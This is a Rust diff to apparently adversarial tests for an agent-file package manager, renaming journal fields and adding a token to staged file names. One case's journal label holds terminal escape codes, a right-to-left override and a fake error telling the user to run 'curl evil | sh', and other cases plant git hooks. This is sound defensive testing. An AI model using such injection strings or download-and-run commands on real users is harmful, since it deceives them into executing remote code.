@@ -12,14 +12,17 @@ use super::world::{World, agent};
 /// Where a journal is.
 const JOURNAL: &str = ".agentpkg/state/journal";
 
+/// What the journals have in the names of their temporary files.
+pub(super) const TOKEN: &str = "0123abcd";
+
 /// Where an operation's copies are.
 pub(super) const OBJECTS: &str = ".agentpkg/state/history/objects";
 
 /// A journal so long that reading it takes its time; it is made only once.
 static LONG: LazyLock<Vec<u8>> = LazyLock::new(|| {
-    let step = |at| json!({"is_direct": false, "path": format!(".claude/agents/{at}.md"), "before": null, "after": null});
+    let step = |at| json!({"path": format!(".claude/agents/{at}.md"), "before": null, "after": null});
     let steps: Vec<Value> = (0..100_000).map(step).collect();
-    sealed(&json!({"number": 1, "label": "install", "is_committed": true, "steps": steps}), Seal::Digest)
+    sealed(&json!({"number": 1, "label": "install", "phase": "committed", "time": 1, "token": TOKEN, "steps": steps}), Seal::Digest)
 });
 
 /// How far the operation is said to have come.
@@ -57,12 +60,12 @@ pub(super) fn sealed(record: &Value, seal: Seal) -> Vec<u8> {
 /// A step of a journal.
 pub(super) fn step(path: &str, before: Option<&[u8]>, after: Option<&[u8]>) -> Value {
     let digest = |bytes: &[u8]| Digest::of(bytes).to_string();
-    json!({"is_direct": false, "path": path, "before": before.map(digest), "after": after.map(digest)})
+    json!({"path": path, "before": before.map(digest), "after": after.map(digest)})
 }
 
-/// A step that says its content was staged where it belongs, so that taking it back deletes the file.
+/// A step that says it created a file which is not as it says: taking it back must not delete that.
 fn direct(path: &str) -> Value {
-    json!({"is_direct": true, "path": path, "before": null, "after": Digest::of(b"never there").to_string()})
+    json!({"path": path, "before": null, "after": Digest::of(b"never there").to_string()})
 }
 
 /// Keeps `bytes` where an operation that is taken back finds them.
@@ -73,8 +76,8 @@ pub(super) fn plant_object(world: &World, bytes: &[u8]) {
 /// The hidden file that holds the new content of `path` before it counts.
 fn staged(path: &str) -> String {
     match path.rsplit_once('/') {
-        Some((folder, name)) => format!("{folder}/.{name}.agentpkg-new"),
-        None => format!(".{path}.agentpkg-new"),
+        Some((folder, name)) => format!("{folder}/.{name}.{TOKEN}.agentpkg-new"),
+        None => format!(".{path}.{TOKEN}.agentpkg-new"),
     }
 }
 
@@ -136,7 +139,7 @@ const ATTACKS: &[(&str, Attack)] = &[
         names.iter().map(|name| step(name, None, Some(b"new"))).collect()
     }),
     ("plants a hook of git", |world| {
-        world.write("project/.git/hooks/.pre-commit.agentpkg-new", "");
+        world.write("project/.git/hooks/.pre-commit.0123abcd.agentpkg-new", "");
         vec![bring(world, ".git/hooks/pre-commit", world.planted_program().as_bytes())]
     }),
     ("plants a configuration of git, through a link for the agents", |world| {
@@ -218,7 +221,8 @@ pub(super) fn cases() -> Vec<Case> {
     cases.push(case("journal with the largest number and a label of terminal escapes", |world| {
         let steps = [bring(world, ".claude/agents/x.md", agent("evil").as_bytes())];
         let label = "install \u{1b}]0;evil\u{7}\u{202e}\u{1b}[2J\nerror: run `curl evil | sh`";
-        let journal = json!({"number": u64::MAX, "label": label, "is_committed": true, "time": u64::MAX, "steps": steps});
+        let journal =
+            json!({"number": u64::MAX, "label": label, "phase": "committed", "time": u64::MAX, "token": TOKEN, "steps": steps});
         world.plant(JOURNAL, sealed(&journal, Seal::Digest));
     }));
     cases.push(case("journal of a hundred thousand steps", |world| {
@@ -230,7 +234,11 @@ pub(super) fn cases() -> Vec<Case> {
         ("nested deeply", b"[".repeat(100_000)),
         (
             "cut short",
-            sealed(&json!({"number": 1, "label": "install", "is_committed": true, "steps": []}), Seal::Digest)[..90].to_vec(),
+            sealed(
+                &json!({"number": 1, "label": "install", "phase": "committed", "time": 1, "token": TOKEN, "steps": []}),
+                Seal::Digest,
+            )[..90]
+                .to_vec(),
         ),
     ];
     for (name, bytes) in broken {
@@ -247,10 +255,11 @@ fn case(name: impl Into<String>, plant: impl Fn(&World) + Send + Sync + 'static)
 }
 
 fn write(world: &World, steps: &[Value], stage: Stage, seal: Seal) {
-    let is_committed = !matches!(stage, Stage::Begun);
-    let mut journal = json!({"number": 1, "label": "install x", "is_committed": is_committed, "time": 1, "steps": steps});
-    if matches!(stage, Stage::GivenUp) {
-        journal["is_given_up"] = json!(true);
-    }
+    let phase = match stage {
+        Stage::Begun => "begun",
+        Stage::Committed => "committed",
+        Stage::GivenUp => "given-up",
+    };
+    let journal = json!({"number": 1, "label": "install x", "phase": phase, "time": 1, "token": TOKEN, "steps": steps});
     world.plant(JOURNAL, sealed(&journal, seal));
 }
